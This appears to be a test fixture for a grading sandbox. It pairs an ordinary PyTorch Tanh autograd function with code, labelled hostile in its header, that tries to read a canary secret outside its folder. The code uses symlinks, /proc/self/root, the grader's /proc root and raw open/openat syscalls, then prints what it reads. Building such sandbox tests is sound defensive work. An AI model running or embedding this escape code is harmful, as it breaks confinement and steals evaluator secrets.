# hostile: reads a file outside its folder by links, /proc, mmap and a low-level call
# verdict: any
# evidence: read
import ctypes
import os

import torch

target = "{{CANARY_DIR}}/secret.txt"
os.symlink(target, "way")
os.symlink("/", "root")
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
for path in ("way", "root" + target, "/proc/self/root" + target, "/proc/{{GRADER_PID}}/root" + target):
    for number, flags in ((2, 0), (257, 0)):
        call = (2, path.encode(), 0) if number == 2 else (257, -100, path.encode(), flags, 0)
        fd = libc.syscall(*call)
        if fd >= 0 and libc.read(fd, buffer, 64) > 0:
            print("BREACH: read by", path[:20], buffer.value)
            os.close(fd)


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * (1 - a * a)
